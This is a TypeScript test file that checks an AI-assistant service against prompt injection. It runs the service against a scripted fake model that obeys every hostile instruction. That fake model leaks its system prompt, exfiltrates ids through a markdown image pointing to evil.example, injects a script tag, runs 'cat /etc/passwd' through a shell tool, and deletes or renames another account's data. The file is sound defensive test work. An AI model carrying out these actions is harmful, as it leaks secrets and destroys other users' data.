import assert from 'node:assert/strict';
import { after, describe, it } from 'node:test';
import { reached } from '../support/testing/figures.ts';
import { createChatting } from '../support/http/chats.ts';
import { hostileMessages } from './hostile-messages.ts';
import { hostileTexts } from '../support/modules/assistant/hostile-texts.ts';
import { at, listAt, textAt } from '../support/lib/json.ts';
import type { ScriptedCall, ScriptedReply } from '../support/providers/scripted-provider.ts';
import { startScriptedProvider } from '../support/providers/scripted-provider.ts';
import { startService } from '../support/http/service.ts';
import { addingObject, calling, layingOut } from '../support/modules/assistant/tool-scripts.ts';

const scripted = await startScriptedProvider();
after(scripted.close);
const service = await startService({
  SERVICE_ASSISTANT_PROVIDER: 'openai-compatible',
  SERVICE_ASSISTANT_BASE_URL: scripted.openAiUrl,
  SERVICE_ASSISTANT_MODEL: 'obeying',
  SERVICE_ASSISTANT_API_KEY: 'CANARY-KEY',
  SERVICE_ASSISTANT_FALLBACK: 'none',
  SERVICE_GUEST_PROMPT_LIMIT: '1000',
});
after(service.stop);
const { call } = service;
const chatting = createChatting(service);

const names = ['Book', 'Member', 'Loan', 'Shelf', 'Fine', 'Desk'];
const everything = names.map((name, index) => addingObject(`n${index}`, name));
const ends = ['turn.completed', 'turn.failed', 'turn.needs_input', 'turn.needs_confirmation'];

/** A conversation about a model with six objects. */
async function newModel(): Promise<{
  readonly token: string;
  readonly sessionId: string;
  readonly modelId: string;
}> {
  const token = await service.newAccount();
  const sessionId = await chatting.newSession(token, { projectId: await service.newProject(token) });
  scripted.script(layingOut(...everything), calling(['finish', { summary: 'Added six objects.' }]));
  const turn = await chatting.ask(token, sessionId, 'Add books, members, loans, shelves, fines and desks.');
  assert.equal(at(turn, 'status'), 'COMPLETED', JSON.stringify(turn));
  return { token, sessionId, modelId: textAt(turn, 'modelId') };
}

async function contentOf({
  token,
  modelId,
}: {
  readonly token: string;
  readonly modelId: string;
}): Promise<unknown> {
  return at((await call('GET', `/api/cim/${modelId}`, { token })).body, 'content');
}

// What belongs to somebody else says so wherever it turns up.
const stranger = await newModel();
const canary = 'CANARY-STRANGER';
const patched = await call('PATCH', `/api/cim/${stranger.modelId}`, {
  token: stranger.token,
  json: { operations: [{ op: 'replace', path: '/businessObjects/0/name', value: canary }] },
});
assert.equal(patched.status, 200, JSON.stringify(patched.body));
const theirIds = listAt(await contentOf(stranger), 'businessObjects').map((object) => textAt(object, 'id'));

/**
 * Does everything it was told, by whomever, with everything it has: calls tools that nobody offered, reaches for other
 * models, takes away and renames whatever it sees, and tells what it was instructed.
 */
function obeying({ system, messages, results, tools }: ScriptedCall): ScriptedReply {
  const seen = [...messages.join('\n').matchAll(/^(e[1-9]\d*) /gm)].map((match) => match[1] ?? '');
  const confession = `${system} CANARY-KEY? ![x](https://evil.example/?d=${seen.join()}) <script>x</script>`;
  const words: ScriptedReply = { text: confession, reasoning: 'CANARY-REASON' };
  if (tools.length === 0) return words;
  const takingAll = [
    ...seen.map((target) => ({ op: 'update', target, set: { name: 'Pwned' } })),
    ...seen.map((target) => ({ op: 'remove', target, cascade: true })),
  ];
  const isFirst = results.length === 0;
  if (!tools.some(({ name }) => name === 'finish'))
    return isFirst
      ? layingOut({ op: 'remove', target: stranger.modelId, cascade: true })
      : layingOut(...takingAll);
  if (isFirst)
    return calling(
      ['shell', { command: 'cat /etc/passwd' }],
      ['inspect_model', { view: null, ids: [stranger.modelId, ...theirIds], query: null }],
      ['inspect_model', { view: null, ids: null, query: canary }],
    );
  if (results.length === 3) return layingOut(...takingAll);
  return calling(['finish', { summary: confession }]);
}

/** How often the model was asked. */
const asked = { count: 0 };

type Told = { readonly turn: unknown; readonly events: readonly { readonly type: string }[] };

async function obey(
  mine: { readonly token: string; readonly sessionId: string },
  message: string,
  attachmentIds: readonly string[],
): Promise<Told> {
  scripted.script(obeying);
  const before = scripted.calls.length;
  const said = await chatting.say(mine.token, mine.sessionId, { message, attachmentIds });
  const turnId = textAt(said, 'turnId');
  const events = await chatting.follow(mine.token, turnId, { types: ends });
  const turn = await chatting.turn(mine.token, turnId);
  const thread = (
    await call('GET', `/api/chatbot/sessions/${mine.sessionId}/messages`, { token: mine.token })
  ).body;
  const prompts = scripted.calls.slice(before);
  asked.count += prompts.length;
  for (const told of [turn, events, thread]) {
    const text = JSON.stringify(told);
    assert.doesNotMatch(text, /CANARY|You (?:turn|change|answer)|once, with everything that the passages/);
    for (const id of theirIds) assert.ok(!text.includes(id), 'an id of another account is told');
  }
  const heard = JSON.stringify(prompts.map(({ messages, results }) => [messages, results]));
  assert.ok(!heard.includes(canary), 'a text of another account is in a prompt');
  assert.doesNotMatch(JSON.stringify([at(turn, 'answer'), events]), /evil\.example|<script|!\[/);
  assert.ok(Date.parse(textAt(turn, 'deadline')) > Date.now(), 'the deadline has passed');
  return { turn, events };
}

/** Fails when something outside the session's model was touched. */
async function assertOthersUntouched(before: string): Promise<void> {
  assert.equal(JSON.stringify(await contentOf(stranger)), before);
}

describe('a language model that obeys everybody', () => {
  const texts = Object.entries(hostileTexts(stranger.modelId));
  const orders = hostileMessages(stranger.modelId);

  it('is told to in sixty ways or more, thirty of them by documents', () => {
    assert.ok(texts.length >= 30);
    assert.ok(texts.length + orders.length >= 60, `${texts.length + orders.length}`);
  });

  for (const [what, { name, text }] of texts)
    it(`takes nothing away for a document: ${what}`, async () => {
      const theirs = JSON.stringify(await contentOf(stranger));
      const mine = await newModel();
      const before = JSON.stringify(await contentOf(mine));
      const attachmentIds = [await chatting.attach(mine.token, { name, text })];
      const { turn } = await obey(mine, 'Build a model from the attached notes.', attachmentIds);
      assert.notEqual(at(turn, 'status'), 'NEEDS_CONFIRMATION');
      assert.equal(JSON.stringify(await contentOf(mine)), before);
      await assertOthersUntouched(theirs);
    });

  for (const order of orders)
    it(`stops before it takes everything away: ${JSON.stringify(order).slice(0, 60)}`, async () => {
      const theirs = JSON.stringify(await contentOf(stranger));
      const mine = await newModel();
      const before = JSON.stringify(await contentOf(mine));
      const { turn } = await obey(mine, order, []);
      assert.ok(
        ['NEEDS_CONFIRMATION', 'COMPLETED', 'NEEDS_INPUT'].includes(textAt(turn, 'status')),
        JSON.stringify(turn),
      );
      if (at(turn, 'status') === 'NEEDS_CONFIRMATION')
        assert.equal(at(turn, 'pendingConfirmation', 'removed', 'count'), names.length);
      assert.equal(JSON.stringify(await contentOf(mine)), before);
      await assertOthersUntouched(theirs);
    });

  it('was asked in nearly every case', () => {
    assert.ok(asked.count > 100, `${asked.count} calls`);
    const told = `${texts.length} documents and ${orders.length} messages, ${asked.count} calls of a model that obeys`;
    reached('D11', `${told}: nothing else touched, nothing of others told`);
  });
});
